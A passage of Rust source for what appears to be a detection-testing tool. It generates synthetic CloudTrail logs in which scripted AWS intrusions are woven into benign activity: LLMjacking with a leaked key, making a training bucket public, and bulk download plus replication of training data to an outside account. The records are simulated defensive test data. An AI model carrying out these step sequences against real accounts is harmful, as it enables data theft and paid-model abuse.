//! Attack scenarios for `trailwarden simulate`.
//!
//! A scenario is ordinary background activity of the simulated account
//! ([`Synth::benign`]) with one intrusion woven in: a time-ordered sequence
//! of calls as a real intruder makes them, built with [`Synth::call`] from
//! realistic actors (a leaked long-term `AKIA…` key used from an address the
//! account never sees, a stolen role session, a phished single sign-on
//! session) and their tooling's user agents. Every intrusion begins a few
//! minutes after the start. Attacker addresses are taken from
//! `192.0.2.0/24`, which no member of the background cast uses.
//!
//! [`records`] streams the records in `eventTime` order: the intrusion (a
//! few hundred records at most) is built up front, the background is drawn
//! one record at a time, so any background size runs in constant memory.
//! The background of a scenario is the `benign` scenario of the same seed,
//! record for record, except where the intrusion visibly changes it: after
//! the chat guardrail is deleted the chat application's guarded calls fail,
//! and after the training-data key is disabled the calls that need it fail.
//!
//! [`example_policy_yaml`] gives the organisation facts the scenarios assume
//! (training buckets, AI accounts, allowed regions, approved models, trusted
//! accounts, approved principals) for the default account.

use std::fmt;
use std::io;
use std::path::Path;

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde_json::{json, Value};

use crate::synth::{self, set_error, Actor, Synth, SynthConfig};

mod story;
pub use story::StoryError;

// ---------------------------------------------------------------------------
// Public API
// ---------------------------------------------------------------------------

/// `(name, one-line description)` of every scenario, `benign` included.
pub const SCENARIOS: &[(&str, &str)] = &[
    (
        "llmjacking",
        "leaked AKIA key: Bedrock reconnaissance, model access enabled, then a burst of paid model invocations through a reverse proxy",
    ),
    (
        "invocation-logging-disabled",
        "stolen SSO session reads, then deletes the Bedrock model invocation logging configuration and invokes models unlogged",
    ),
    (
        "guardrail-deleted",
        "chat Lambda credentials used from outside AWS: guardrail read, filters weakened to NONE, then the guardrail deleted",
    ),
    (
        "training-bucket-public",
        "leaked admin key removes the public access block of the training bucket, makes its policy and ACL public; anonymous reads follow",
    ),
    (
        "training-data-exfiltration",
        "leaked CI key bulk-downloads the training bucket, replicates and copies it to an outside account, then deletes objects",
    ),
    (
        "ai-role-privilege-escalation",
        "poisoned GitHub Actions run grants bedrock:* and * to bedrock-app-role and opens AI role trust to an outside account and to everyone",
    ),
    (
        "trail-tampering",
        "phished administrator session drops management events from the AI audit trail, stops it and deletes it",
    ),
    (
        "credential-sharing",
        "one access key used from five new addresses and clients within half an hour, then a new access key for another user",
    ),
    (
        "sagemaker-lifecycle-backdoor",
        "notebook lifecycle configuration that steals the role credentials and opens a reverse shell, attached and opened from a new address",
    ),
    (
        "kms-key-deletion",
        "forgotten admin key disables the KMS key of the training bucket and schedules it for deletion",
    ),
    (
        "instance-credential-theft",
        "the Bedrock application instance's role credentials, taken through its metadata service, replayed from outside: training data listed and read, models invoked",
    ),
    (
        "outside-account-backdoor",
        "phished administrator session grants an outside account use of the training-data KMS key (a grant and the key policy) and lets it assume the training role",
    ),
    (
        "root-console-no-mfa",
        "the root user signs in to the console without MFA from a new address and creates a root access key",
    ),
    (
        "benign",
        "background activity only: nothing a security team would flag",
    ),
];

/// What to simulate: the account, its region, the seed, how many benign
/// background records to mix in, and the time of the first record.
#[derive(Clone, Debug)]
pub struct SimOptions {
    /// 12-digit account ID that receives the events.
    pub account: String,
    /// Region of every call.
    pub region: String,
    /// Seed of the random generators: equal options give equal output.
    pub seed: u64,
    /// Number of benign background records.
    pub background: usize,
    /// Simulated time of the first record.
    pub start: DateTime<Utc>,
}

impl Default for SimOptions {
    fn default() -> Self {
        SimOptions {
            account: "111122223333".to_string(),
            region: "us-east-1".to_string(),
            seed: 1,
            background: 2000,
            start: Utc.with_ymd_and_hms(2026, 11, 2, 8, 0, 0).unwrap(),
        }
    }
}

/// A scenario name that is not in [`SCENARIOS`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnknownScenario(pub String);

impl fmt::Display for UnknownScenario {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "unknown scenario `{}`; valid scenarios: ", self.0)?;
        for (i, (name, _)) in SCENARIOS.iter().enumerate() {
            if i > 0 {
                f.write_str(", ")?;
            }
            f.write_str(name)?;
        }
        Ok(())
    }
}

impl std::error::Error for UnknownScenario {}

/// Why [`write`] failed.
#[derive(Debug)]
pub enum SimError {
    /// The scenario name is not known.
    UnknownScenario(UnknownScenario),
    /// Writing the log file failed.
    Io(io::Error),
}

impl fmt::Display for SimError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SimError::UnknownScenario(e) => e.fmt(f),
            SimError::Io(e) => write!(f, "writing the log file: {e}"),
        }
    }
}

impl std::error::Error for SimError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SimError::UnknownScenario(e) => Some(e),
            SimError::Io(e) => Some(e),
        }
    }
}

impl From<UnknownScenario> for SimError {
    fn from(e: UnknownScenario) -> Self {
        SimError::UnknownScenario(e)
    }
}

impl From<io::Error> for SimError {
    fn from(e: io::Error) -> Self {
        SimError::Io(e)
    }
}

/// The records of a scenario in `eventTime` order: `options.background`
/// benign records with the intrusion woven in. The background is generated
/// on demand, so the iterator's memory does not grow with it.
pub fn records(
    name: &str,
    options: &SimOptions,
) -> Result<Box<dyn Iterator<Item = Value>>, UnknownScenario> {
    let plan = plan(name, options)?;
    let background = Synth::new(SynthConfig {
        account: options.account.clone(),
        region: options.region.clone(),
        seed: options.seed,
        start: options.start,
    });
    Ok(Box::new(Weave {
        background,
        remaining: options.background,
        attack: plan.attack.into_iter().peekable(),
        effects: plan.effects,
        rng: fastrand::Rng::with_seed(options.seed ^ 0x0E77_EC75_0F1A_7AC4),
    }))
}

/// How long the scenario's records span: from `options.start` to its
/// latest `eventTime` (zero for none). Generates the records to find out.
///
/// # Errors
/// An unknown scenario name.
pub fn span(name: &str, options: &SimOptions) -> Result<chrono::Duration, UnknownScenario> {
    let start = options.start.timestamp_millis();
    let latest = records(name, options)?
        .filter_map(|r| {
            r.get("eventTime")
                .and_then(Value::as_str)
                .and_then(trailwarden_cloudtrail::record::parse_event_time)
        })
        .max()
        .unwrap_or(start);
    Ok(chrono::Duration::milliseconds((latest - start).max(0)))
}

/// Writes the scenario to `path` as a gzip-compressed CloudTrail S3
/// delivery file (`{"Records":[...]}`); returns the number of records.
pub fn write(name: &str, options: &SimOptions, path: &Path) -> Result<u64, SimError> {
    write_counted(name, options, path, |_| {})
}

/// [`write`], calling `written` with the number of records made so far
/// every 1,024 records (a progress bar for a large background).
pub fn write_counted(
    name: &str,
    options: &SimOptions,
    path: &Path,
    mut written: impl FnMut(u64),
) -> Result<u64, SimError> {
    let mut n = 0u64;
    let records = records(name, options)?.inspect(|_| {
        n += 1;
        if n.is_multiple_of(1024) {
            written(n);
        }
    });
    Ok(synth::write_log_file(path, records, true)?)
}

/// The organisation facts the scenarios assume, for the default account
/// `111122223333` in `us-east-1`.
pub fn example_policy_yaml() -> &'static str {
    EXAMPLE_POLICY
}

const EXAMPLE_POLICY: &str = include_str!("../../../policy.example.yaml");

// ---------------------------------------------------------------------------
// Weaving the intrusion into the background
// ---------------------------------------------------------------------------

/// An intrusion record and the time it was made (Unix milliseconds).
struct Timed {
    at_ms: i64,
    record: Value,
}

/// How the intrusion changes the background from a point in time on.
#[derive(Clone, Debug)]
enum Effect {
    /// The chat guardrail no longer exists.
    GuardrailDeleted { from_ms: i64 },
    /// A KMS key is disabled (`pending` false) or pending deletion.
    KeyUnusable {
        from_ms: i64,
        key_arn: String,
        bucket: String,
        pending: bool,
    },
}

impl Effect {
    fn starts_ms(&self) -> i64 {
        match self {
            Effect::GuardrailDeleted { from_ms } | Effect::KeyUnusable { from_ms, .. } => *from_ms,
        }
    }

    fn apply(&self, rec: &mut Value, rng: &mut fastrand::Rng) {
        let source = rec["eventSource"].as_str().unwrap_or_default().to_string();
        let name = rec["eventName"].as_str().unwrap_or_default().to_string();
        match self {
            Effect::GuardrailDeleted { .. } => {
                if source != "bedrock.amazonaws.com"
                    || rec["requestParameters"]["guardrailIdentifier"] != GUARDRAIL_ID
                {
                    return;
                }
                let message = if name == "GetGuardrail" {
                    format!("Guardrail {GUARDRAIL_ID} was not found.")
                } else {
                    "The guardrail identifier or version provided in the request does not exist."
                        .to_string()
                };
                set_error(rec, "ResourceNotFoundException", &message);
            }
            Effect::KeyUnusable {
                key_arn,
                bucket,
                pending,
                ..
            } => {
                let (code, state) = if *pending {
                    ("KMSInvalidStateException", "pending deletion")
                } else {
                    ("DisabledException", "disabled")
                };
                let message = format!("{key_arn} is {state}.");
                if source == "kms.amazonaws.com" {
                    if rec["requestParameters"]["keyId"] == key_arn.as_str() {
                        set_error(rec, code, &message);
                    }
                } else if source == "s3.amazonaws.com"
                    && matches!(name.as_str(), "GetObject" | "PutObject")
                    && rec["requestParameters"]["bucketName"] == bucket.as_str()
                {
                    set_error(rec, &format!("KMS.{code}"), &message);
                    if let Some(aed) = rec.get_mut("additionalEventData") {
                        aed["bytesTransferredIn"] = 0.into();
                        aed["bytesTransferredOut"] = rng.u64(240..420).into();
                    }
                }
            }
        }
    }
}

/// The records of an intrusion and its effects on the background.
struct Plan {
    attack: Vec<Timed>,
    effects: Vec<Effect>,
}

/// Background records drawn on demand, merged with the intrusion by time.
struct Weave {
    background: Synth,
    remaining: usize,
    attack: std::iter::Peekable<std::vec::IntoIter<Timed>>,
    effects: Vec<Effect>,
    rng: fastrand::Rng,
}

impl Iterator for Weave {
    type Item = Value;

    fn next(&mut self) -> Option<Value> {
        // The next background record is stamped with the generator's clock.
        let background_at = (self.remaining > 0).then(|| self.background.now().timestamp_millis());
        let attack_first = match (background_at, self.attack.peek()) {
            (_, None) => false,
            (None, Some(_)) => true,
            (Some(b), Some(a)) => a.at_ms < b,
        };
        if attack_first {
            return self.attack.next().map(|t| t.record);
        }
        let at = background_at?;
        self.remaining -= 1;
        let mut rec = self.background.benign();
        for effect in &self.effects {
            if effect.starts_ms() <= at {
                effect.apply(&mut rec, &mut self.rng);
            }
        }
        Some(rec)
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        let n = self.remaining + self.attack.len();
        (n, Some(n))
    }
}

/// The intrusion of a scenario.
fn plan(name: &str, options: &SimOptions) -> Result<Plan, UnknownScenario> {
    let mut script = Script::new(options, name);
    // An intrusion that is a sequence of calls is a file of data
    // (`scenarios/*.yaml`, see `story.rs`); the rest are code.
    if let Some((_, text)) = story::STORIES.iter().find(|(n, _)| *n == name) {
        story::run(name, text, &mut script)
            .unwrap_or_else(|e| panic!("a built-in scenario file cannot be run: {e}"));
    } else {
        let build: fn(&mut Script) = match name {
            "llmjacking" => llmjacking,
            "training-bucket-public" => training_bucket_public,
            "training-data-exfiltration" => training_data_exfiltration,
            "ai-role-privilege-escalation" => ai_role_privilege_escalation,
            "credential-sharing" => credential_sharing,
            "sagemaker-lifecycle-backdoor" => sagemaker_lifecycle_backdoor,
            "benign" => |_: &mut Script| {},
            other => return Err(UnknownScenario(other.to_string())),
        };
        build(&mut script);
    }
    Ok(Plan {
        attack: script.out,
        effects: script.effects,
    })
}

// ---------------------------------------------------------------------------
// Writing an intrusion
// ---------------------------------------------------------------------------

/// Builds the records of an intrusion on its own clock and generator, so
/// the background of every scenario stays that of `benign`.
struct Script {
    synth: Synth,
    rng: fastrand::Rng,
    account: String,
    region: String,
    start_ms: i64,
    /// Time of the next call, in milliseconds after the start.
    cursor_ms: i64,
    out: Vec<Timed>,
    effects: Vec<Effect>,
}

impl Script {
    fn new(options: &SimOptions, name: &str) -> Self {
        let seed = options.seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ fnv1a(name);
        Script {
            synth: Synth::new(SynthConfig {
                account: options.account.clone(),
                region: options.region.clone(),
                seed,
                start: options.start,
            }),
            rng: fastrand::Rng::with_seed(seed ^ 0x5C21_97A0_D3E4_B86F),
            account: options.account.clone(),
            region: options.region.clone(),
            start_ms: options.start.timestamp_millis(),
            cursor_ms: 0,
            out: Vec::new(),
            effects: Vec::new(),
        }
    }

    /// A member of the background cast, as it appears there.
    fn cast(&self, name: &str) -> Actor {
        self.synth
            .principal(name)
            .unwrap_or_else(|| panic!("{name} is in the cast"))
            .clone()
    }

    /// Moves the clock to `secs` after the start (never backwards).
    fn at(&mut self, secs: i64) {
        let t = secs * 1000 + self.rng.i64(0..400);
        self.cursor_ms = self.cursor_ms.max(t);
    }

    /// Moves the clock on by about `secs` seconds.
    fn pause(&mut self, secs: i64) {
        self.cursor_ms += secs * 1000 + self.rng.i64(0..800);
    }

    /// Moves the clock on by `lo..hi` milliseconds.
    fn pause_ms(&mut self, lo: i64, hi: i64) {
        self.cursor_ms += self.rng.i64(lo..hi);
    }

    /// Seconds since the start.
    fn secs(&self) -> i64 {
        self.cursor_ms / 1000
    }

    fn now(&self) -> DateTime<Utc> {
        DateTime::from_timestamp_millis(self.start_ms + self.cursor_ms).unwrap_or_default()
    }

    /// One call at the current time; returns the record for changes.
    fn call(
        &mut self,
        actor: &Actor,
        source: &str,
        name: &str,
        request: Value,
        response: Value,
    ) -> &mut Value {
        let at_ms = self.start_ms + self.cursor_ms;
        let clock = self.synth.now().timestamp_millis();
        self.synth.advance(Duration::milliseconds(at_ms - clock));
        let record = self.synth.call(actor, source, name, request, response);
        self.out.push(Timed { at_ms, record });
        &mut self.out.last_mut().expect("just pushed").record
    }

    /// A failed call.
    fn fail(
        &mut self,
        actor: &Actor,
        source: &str,
        name: &str,
        request: Value,
        code: &str,
        message: &str,
    ) -> &mut Value {
        let rec = self.call(actor, source, name, request, Value::Null);
        set_error(rec, code, message);
        rec
    }

    /// A successful Bedrock runtime call with token counts.
    fn invoke(&mut self, actor: &Actor, name: &str, model: &str, input: u32, output: u32) {
        let rec = self.call(actor, BEDROCK, name, json!({"modelId": model}), Value::Null);
        rec["additionalEventData"] = json!({"inputTokens": input, "outputTokens": output});
    }

    fn effect(&mut self, effect: Effect) {
        self.effects.push(effect);
    }

    fn random(&mut self, alphabet: &[u8], n: usize) -> String {
        (0..n)
            .map(|_| alphabet[self.rng.usize(..alphabet.len())] as char)
            .collect()
    }

    fn session_key(&mut self) -> String {
        self.synth.random_access_key_id("ASIA")
    }

    fn session_token(&mut self) -> String {
        let n = self.rng.usize(560..760);
        format!("IQoJb3JpZ2luX2VjE{}==", self.random(BASE64_CHARS, n))
    }

    /// `AROA…` ID of a role of the account, as the background records it.
    fn role_id(&self, role: &str) -> String {
        let mut probe = Synth::new(SynthConfig {
            account: self.account.clone(),
            region: self.region.clone(),
            seed: 0,
            start: Utc.timestamp_opt(0, 0).unwrap(),
        });
        let actor = Actor::assumed_role(&self.account, role, "probe", "ASIA", "10.0.0.1", "");
        let rec = probe.call(&actor, STS, "GetCallerIdentity", Value::Null, Value::Null);
        rec["userIdentity"]["sessionContext"]["sessionIssuer"]["principalId"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }

    /// `responseElements` of an `AssumeRole*` call that issued `key`.
    fn assumed_role_response(&mut self, role: &str, session: &str, key: &str) -> Value {
        let role_id = self.role_id(role);
        let expiration = fmt_aws_date(self.now() + Duration::hours(1));
        json!({
            "credentials": {
                "accessKeyId": key,
                "sessionToken": self.session_token(),
                "expiration": expiration,
            },
            "assumedRoleUser": {
                "assumedRoleId": format!("{role_id}:{session}"),
                "arn": format!("arn:aws:sts::{}:assumed-role/{role}/{session}", self.account),
            },
        })
    }

    fn bucket_host(&self, bucket: &str) -> String {
        format!("{bucket}.s3.{}.amazonaws.com", self.region)
    }

    fn training_key_arn(&self) -> String {
        format!(
            "arn:aws:kms:{}:{}:key/{TRAINING_KEY_ID}",
            self.region, self.account
        )
    }

    /// A key of the training bucket, like the background's.
    fn training_object(&mut self) -> String {
        let r = &mut self.rng;
        match r.u32(..3) {
            0 => format!(
                "datasets/support-chats/2026-10/part-{:05}.jsonl",
                r.u32(..2048)
            ),
            1 => format!("datasets/code-review/v3/shard-{:04}.parquet", r.u32(..640)),
            _ => format!(
                "tokenized/llama3-ft-claims/train-{:05}-of-01024.arrow",
                r.u32(..1024)
            ),
        }
    }
}

// ---------------------------------------------------------------------------
// The simulated organisation and the intruders' tooling
// ---------------------------------------------------------------------------

const STS: &str = "sts.amazonaws.com";
const IAM: &str = "iam.amazonaws.com";
const S3: &str = "s3.amazonaws.com";
const BEDROCK: &str = "bedrock.amazonaws.com";
const SAGEMAKER: &str = "sagemaker.amazonaws.com";

/// The training-data bucket, its KMS key, and the chat application's
/// guardrail, as in the background.
const TRAINING_BUCKET: &str = "acme-ml-training-data";
const TRAINING_KEY_ID: &str = "5e0c2a47-9b1d-4f6e-8a3c-7d21f0b9e468";
const GUARDRAIL_ID: &str = "r2x8kq5vn1tz";
/// Customer managed policy attached to `bedrock-app-role`; v4 is live.
const APP_POLICY: &str = "BedrockInvokeOnly";
/// The account's own trail for AI data events (the file itself comes from
/// the organization trail, which a member account cannot change).
const AUDIT_TRAIL: &str = "acme-ai-audit";
const NOTEBOOK: &str = "ds-research-notebook";
const SSO_ADMIN: &str = "AWSReservedSSO_AdministratorAccess_0d4c8e2a6b1f3957";
/// The intruders' own account, not a trusted one.
const OUTSIDE_ACCOUNT: &str = "999988887777";
const OUTSIDE_BUCKET: &str = "dr-sync-7f3a9c41";

const OPUS: &str = "anthropic.claude-3-opus-20240229-v1:0";
const SONNET3: &str = "anthropic.claude-3-sonnet-20240229-v1:0";
const SONNET35: &str = "anthropic.claude-3-5-sonnet-20240620-v1:0";
const HAIKU: &str = "anthropic.claude-3-haiku-20240307-v1:0";
const CLAUDE2: &str = "anthropic.claude-v2:1";

const UA_BOTO_WINDOWS: &str = "Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/windows#10 md/arch#amd64 lang/python#3.11.7 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.34";
const UA_BOTO_VPS: &str = "Boto3/1.35.24 md/Botocore#1.35.24 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.24";
const UA_JS_PROXY: &str = "aws-sdk-js/3.600.0 ua/2.1 os/linux#6.1.0-21-cloud-amd64 lang/js md/nodejs#20.15.0 api/bedrock-runtime#3.600.0";
const UA_CLI_KALI: &str = "aws-cli/2.15.57 md/awscrt#0.19.19 ua/2.0 os/linux#6.6.15-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#kali.2024 md/prompt#off";
const UA_RCLONE: &str = "rclone/v1.66.0";
const UA_CURL: &str = "curl/8.5.0";
const UA_TRUFFLEHOG: &str = "TruffleHog";
const UA_GO_SCANNER: &str = "aws-sdk-go/1.44.327 (go1.21.0; linux; amd64)";
const UA_BOTO_MAC_ATTACK: &str = "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/macos#23.4.0 md/arch#arm64 lang/python#3.12.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.84";
const UA_GHA_CREDENTIALS: &str = "configure-aws-credentials-for-github-actions";

const BASE64_CHARS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const ID_CHARS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const HEX: &[u8] = b"0123456789abcdef";

// ---------------------------------------------------------------------------
// The scenarios
// ---------------------------------------------------------------------------

/// A leaked long-term key of `analytics-etl` (a Spark job that never uses
/// Bedrock) is checked by a key-checker script, which reads the logging
/// configuration, enables model access and probes models; then a reverse
/// proxy resells the access with heavy invocations of several models.
fn llmjacking(s: &mut Script) {
    let checker = s
        .cast("analytics-etl")
        .with_source_ip("192.0.2.148")
        .with_user_agent(UA_BOTO_WINDOWS);
    let proxy = checker
        .clone()
        .with_source_ip("192.0.2.203")
        .with_user_agent(UA_JS_PROXY);

    s.at(300);
    s.call(&checker, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(5);
    s.call(
        &checker,
        BEDROCK,
        "GetModelInvocationLoggingConfiguration",
        Value::Null,
        Value::Null,
    );
    s.pause(4);
    s.call(
        &checker,
        BEDROCK,
        "ListFoundationModels",
        Value::Null,
        Value::Null,
    );
    for model in [OPUS, SONNET3, SONNET35] {
        s.pause(3);
        s.call(
            &checker,
            BEDROCK,
            "GetFoundationModelAvailability",
            json!({"modelId": model}),
            Value::Null,
        );
    }
    let form = base64(
        br#"{"companyName":"Nexora Labs","companyWebsite":"https://nexora-labs.example","intendedUsers":"1","industryOption":"Technology","otherIndustryOption":"","useCases":"Customer support chatbot for our SaaS platform"}"#,
    );
    s.pause(8);
    s.call(
        &checker,
        BEDROCK,
        "ListFoundationModelAgreementOffers",
        json!({"modelId": OPUS}),
        Value::Null,
    );
    s.pause(9);
    s.call(
        &checker,
        BEDROCK,
        "PutUseCaseForModelAccess",
        json!({"formData": form}),
        Value::Null,
    );
    for (i, model) in [OPUS, SONNET3].into_iter().enumerate() {
        if i > 0 {
            s.pause(6);
            s.call(
                &checker,
                BEDROCK,
                "ListFoundationModelAgreementOffers",
                json!({"modelId": model}),
                Value::Null,
            );
        }
        s.pause(8);
        let offer = s.random(BASE64_CHARS, 180);
        s.call(
            &checker,
            BEDROCK,
            "CreateFoundationModelAgreement",
            json!({"offerToken": offer, "modelId": model}),
            json!({"modelId": model}),
        );
    }
    s.pause(14);
    s.call(
        &checker,
        BEDROCK,
        "GetFoundationModelAvailability",
        json!({"modelId": OPUS}),
        Value::Null,
    );

    // Free probes: an invalid max_tokens is rejected only where access
    // exists.
    let invalid = "Malformed input request: #/max_tokens: -1 is not greater or equal to 1, please reformat your input and try again.";
    for (model, denied) in [
        (OPUS, false),
        (SONNET3, false),
        (CLAUDE2, true),
        (SONNET35, false),
    ] {
        s.pause(2);
        let (code, message) = if denied {
            (
                "AccessDeniedException",
                "You don't have access to the model with the specified model ID.",
            )
        } else {
            ("ValidationException", invalid)
        };
        s.fail(
            &checker,
            BEDROCK,
            "InvokeModel",
            json!({"modelId": model}),
            code,
            message,
        );
    }

    // The proxy's customers.
    s.at(430);
    while s.secs() < 1130 {
        let roll = s.rng.u32(..100);
        let name = if roll < 50 {
            "InvokeModel"
        } else if roll < 85 {
            "InvokeModelWithResponseStream"
        } else {
            "Converse"
        };
        let roll = s.rng.u32(..100);
        let model = if roll < 45 {
            OPUS
        } else if roll < 70 {
            SONNET3
        } else if roll < 90 {
            SONNET35
        } else {
            HAIKU
        };
        if s.rng.u32(..100) < 5 {
            s.fail(
                &proxy,
                BEDROCK,
                name,
                json!({"modelId": model}),
                "ThrottlingException",
                "Too many requests, please wait before trying again.",
            );
        } else {
            let input = s.rng.u32(800..12_000);
            let output = s.rng.u32(300..4096);
            s.invoke(&proxy, name, model, input, output);
        }
        s.pause_ms(3_000, 16_000);
    }
}

/// A leaked key of the administrator `alice.chen` opens the training bucket
/// to the world: public access block removed, a public bucket policy, ACLs
/// re-enabled and AllUsers granted READ; anonymous downloads follow.
fn training_bucket_public(s: &mut Script) {
    let who = s
        .cast("alice.chen")
        .with_source_ip("192.0.2.34")
        .with_user_agent(UA_CLI_KALI);
    let bucket = TRAINING_BUCKET;
    let host = s.bucket_host(bucket);
    s.at(300);
    s.call(&who, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(5);
    let list_host = format!("s3.{}.amazonaws.com", s.region);
    s.call(
        &who,
        S3,
        "ListBuckets",
        json!({"Host": list_host}),
        Value::Null,
    );
    s.pause(7);
    s.call(
        &who,
        S3,
        "GetBucketPublicAccessBlock",
        json!({"publicAccessBlock": "", "bucketName": bucket, "Host": host}),
        Value::Null,
    );
    s.pause(5);
    s.call(
        &who,
        S3,
        "GetBucketPolicy",
        json!({"policy": "", "bucketName": bucket, "Host": host}),
        Value::Null,
    );
    s.pause(12);
    s.call(
        &who,
        S3,
        "DeleteBucketPublicAccessBlock",
        json!({"publicAccessBlock": "", "bucketName": bucket, "Host": host}),
        Value::Null,
    );
    s.pause(14);
    s.call(
        &who,
        S3,
        "PutBucketPolicy",
        json!({
            "bucketPolicy": {
                "Version": "2012-10-17",
                "Statement": [{
                    "Sid": "PublicRead",
                    "Effect": "Allow",
                    "Principal": "*",
                    "Action": ["s3:GetObject", "s3:ListBucket"],
                    "Resource": [format!("arn:aws:s3:::{bucket}"), format!("arn:aws:s3:::{bucket}/*")],
                }],
            },
            "bucketName": bucket,
            "Host": host,
            "policy": "",
        }),
        Value::Null,
    );
    let owner = s.random(HEX, 64);
    let acl = json!({
        "acl": "",
        "bucketName": bucket,
        "Host": host,
        "AccessControlPolicy": {
            "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
            "Owner": {"ID": owner},
            "AccessControlList": {"Grant": [
                {
                    "Grantee": {"xmlns:xsi": "http://www.w3.org/2001/XMLSchema-instance", "xsi:type": "CanonicalUser", "ID": owner},
                    "Permission": "FULL_CONTROL",
                },
                {
                    "Grantee": {"xmlns:xsi": "http://www.w3.org/2001/XMLSchema-instance", "xsi:type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"},
                    "Permission": "READ",
                },
            ]},
        },
    });
    s.pause(9);
    s.fail(
        &who,
        S3,
        "PutBucketAcl",
        acl.clone(),
        "AccessControlListNotSupported",
        "The bucket does not allow ACLs",
    );
    s.pause(11);
    s.call(
        &who,
        S3,
        "PutBucketOwnershipControls",
        json!({
            "ownershipControls": "",
            "bucketName": bucket,
            "Host": host,
            "OwnershipControls": {
                "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                "Rule": {"ObjectOwnership": "ObjectWriter"},
            },
        }),
        Value::Null,
    );
    s.pause(6);
    s.call(&who, S3, "PutBucketAcl", acl, Value::Null);

    // Anonymous checks that the data is reachable.
    let anonymous = Actor::iam_user(&s.account, "anonymous", "", "192.0.2.35", UA_CURL);
    s.at(420);
    let rec = s.call(
        &anonymous,
        S3,
        "ListObjects",
        json!({"list-type": "2", "bucketName": bucket, "Host": host, "prefix": "datasets/"}),
        Value::Null,
    );
    make_anonymous(rec);
    for _ in 0..4 {
        let gap = 4 + s.rng.i64(0..20);
        s.pause(gap);
        let key = s.training_object();
        let rec = s.call(
            &anonymous,
            S3,
            "GetObject",
            json!({"bucketName": bucket, "Host": host, "key": key}),
            Value::Null,
        );
        make_anonymous(rec);
    }
}

/// A leaked key of the CI user (which only ever writes release artifacts)
/// lists and downloads the training data with rclone, sets up replication
/// of the bucket to an outside account, copies objects there, deletes a
/// burst of objects and leaves a ransom note.
fn training_data_exfiltration(s: &mut Script) {
    let cli = s
        .cast("ci-deployer")
        .with_source_ip("192.0.2.87")
        .with_user_agent(UA_CLI_KALI);
    let rclone = cli.clone().with_user_agent(UA_RCLONE);
    let bucket = TRAINING_BUCKET;
    let host = s.bucket_host(bucket);
    let account = s.account.clone();

    s.at(300);
    s.call(&cli, STS, "GetCallerIdentity", Value::Null, Value::Null);
    s.pause(4);
    let list_host = format!("s3.{}.amazonaws.com", s.region);
    s.call(
        &rclone,
        S3,
        "ListBuckets",
        json!({"Host": list_host}),
        Value::Null,
    );
    for prefix in [
        "datasets/support-chats/2026-10/",
        "datasets/code-review/v3/",
        "tokenized/llama3-ft-claims/",
    ] {
        for page in 0..2 {
            s.pause_ms(600, 2_500);
            let mut req = json!({"list-type": "2", "bucketName": bucket, "encoding-type": "url", "max-keys": "1000", "prefix": prefix, "Host": host});
            if page > 0 {
                req["continuation-token"] = s.random(BASE64_CHARS, 88).into();
            }
            s.call(&rclone, S3, "ListObjects", req, Value::Null);
        }
    }
    for _ in 0..160 {
        s.pause_ms(150, 1_800);
        let key = s.training_object();
        s.call(
            &rclone,
            S3,
            "GetObject",
            json!({"bucketName": bucket, "Host": host, "key": key}),
            Value::Null,
        );
    }

    // Replication to the intruders' account.
    let role = "s3-crr-backup-role";
    let role_arn = format!("arn:aws:iam::{account}:role/{role}");
    let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"s3.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#;
    s.pause(25);
    let created = fmt_aws_date(s.now());
    let role_id = format!("AROA{}", s.random(ID_CHARS, 17));
    s.call(
        &cli,
        IAM,
        "CreateRole",
        json!({"roleName": role, "assumeRolePolicyDocument": trust}),
        json!({"role": {"path": "/", "roleName": role, "roleId": role_id, "arn": role_arn, "createDate": created, "assumeRolePolicyDocument": percent_encode(trust)}}),
    );
    s.pause(6);
    let permissions = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":["s3:GetReplicationConfiguration","s3:ListBucket"],"Resource":"arn:aws:s3:::{bucket}"}},{{"Effect":"Allow","Action":["s3:GetObjectVersionForReplication","s3:GetObjectVersionAcl","s3:GetObjectVersionTagging"],"Resource":"arn:aws:s3:::{bucket}/*"}},{{"Effect":"Allow","Action":["s3:ReplicateObject","s3:ReplicateDelete","s3:ReplicateTags"],"Resource":"arn:aws:s3:::{OUTSIDE_BUCKET}/*"}}]}}"#
    );
    s.call(
        &cli,
        IAM,
        "PutRolePolicy",
        json!({"roleName": role, "policyName": "s3-crr", "policyDocument": permissions}),
        Value::Null,
    );
    s.pause(12);
    s.call(
        &cli,
        S3,
        "GetBucketVersioning",
        json!({"versioning": "", "bucketName": bucket, "Host": host}),
        Value::Null,
    );
    s.pause(9);
    s.call(
        &cli,
        S3,
        "PutBucketReplication",
        json!({
            "replication": "",
            "bucketName": bucket,
            "Host": host,
            "ReplicationConfiguration": {
                "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                "Role": role_arn,
                "Rule": {
                    "ID": "backup-sync",
                    "Status": "Enabled",
                    "Priority": "1",
                    "DeleteMarkerReplication": {"Status": "Disabled"},
                    "Filter": {"Prefix": ""},
                    "Destination": {
